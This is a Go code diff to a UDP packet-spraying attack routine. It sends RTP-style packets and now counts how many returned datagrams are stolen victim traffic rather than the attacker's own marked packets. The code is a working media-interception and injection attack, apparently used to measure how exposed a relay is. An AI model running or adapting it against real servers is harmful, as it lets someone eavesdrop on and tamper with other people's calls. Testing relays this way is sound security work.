@@ -24,7 +24,11 @@ type Attack struct {
 type Attacked struct {
 	Sent     int
 	Received int // datagrams that reached the attacker
+	Stolen   int // of them, not an attacker's own that came back
 }
+
+// mark is how a packet of an attacker begins.
+const mark = "not of this call"
 
 // Spray attacks until ctx is done. It reports how much of the victims' traffic
 // was sent to it; what reached the victims shows in their streams as foreign.
@@ -40,7 +44,7 @@ func Spray(ctx context.Context, a Attack) (Attacked, error) {
 	var done Attacked
 	b := make([]byte, headerSize+160)
 	b[0], b[1] = 0x80, a.Type
-	copy(b[headerSize:], "not of this call")
+	copy(b[headerSize:], mark)
 	start := time.Now()
 	for ctx.Err() == nil {
 		for due := int(time.Since(start).Seconds() * float64(a.Rate)); done.Sent < due; done.Sent++ {
@@ -55,8 +59,9 @@ func Spray(ctx context.Context, a Attack) (Attacked, error) {
 				return done, fmt.Errorf("attacking: %w", err)
 			}
 		}
-		n, err := drain(conn)
+		n, stolen, err := drain(conn)
 		done.Received += n
+		done.Stolen += stolen
 		if err != nil {
 			return done, fmt.Errorf("listening for what the attack brings: %w", err)
 		}
@@ -65,17 +70,20 @@ func Spray(ctx context.Context, a Attack) (Attacked, error) {
 }
 
 // drain counts what comes within a millisecond.
-func drain(conn *net.UDPConn) (n int, err error) {
+func drain(conn *net.UDPConn) (n, stolen int, err error) {
 	_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
-	var b [1]byte
+	var b [headerSize + len(mark)]byte
 	for {
-		_, _, err := conn.ReadFromUDPAddrPort(b[:])
+		size, _, err := conn.ReadFromUDPAddrPort(b[:])
 		if errors.Is(err, os.ErrDeadlineExceeded) {
-			return n, nil
+			return n, stolen, nil
 		}
 		if err != nil {
-			return n, err
+			return n, stolen, err
 		}
 		n++
+		if size < len(b) || string(b[headerSize:]) != mark {
+			stolen++
+		}
 	}
 }
